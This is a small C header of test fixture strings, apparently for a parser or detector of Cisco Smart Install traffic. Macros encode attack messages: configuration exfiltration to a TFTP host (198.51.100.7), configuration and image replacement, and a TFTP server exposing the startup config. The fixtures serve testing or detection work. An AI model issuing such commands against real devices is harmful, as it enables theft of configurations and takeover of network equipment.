/* SPDX-License-Identifier: BSD-2-Clause */
/* What the situations say again and again; see situations.h. */
#ifndef SMINI_TEST_WORDS_H
#define SMINI_TEST_WORDS_H

#define SIET "c=copy_system:running-config_flash:/config.text"
#define PROBE "m 1 1 A>D capabilities_request probe\n"
#define ACTIVE "m 1 1 A<D capabilities_response client_active\n"
#define STEAL "m 10 2 A>D backup_request config_exfiltration " SIET "\n"

#define PUSH "m 10 2 A>D download_config config_replacement u=tftp://198.51.100.7/my.conf\nf 10 2 A>D a 312 0\n"
#define SEND "m 10 2 A>D backup_request config_exfiltration c=copy_flash:/config.text_tftp://198.51.100.7/d.conf\nf 10 2 A>D a 1048 0\n"
#define SERVE "m 10 2 A>D backup_request config_exfiltration c=configure_tftp-server_nvram:startup-config\nf 10 2 A>D a 376 0\n"
#define LIST "m 10 2 A>D download_image image_replacement u=tftp://198.51.100.7/list.txt\nf 10 2 A>D a 468 0\n"

#endif
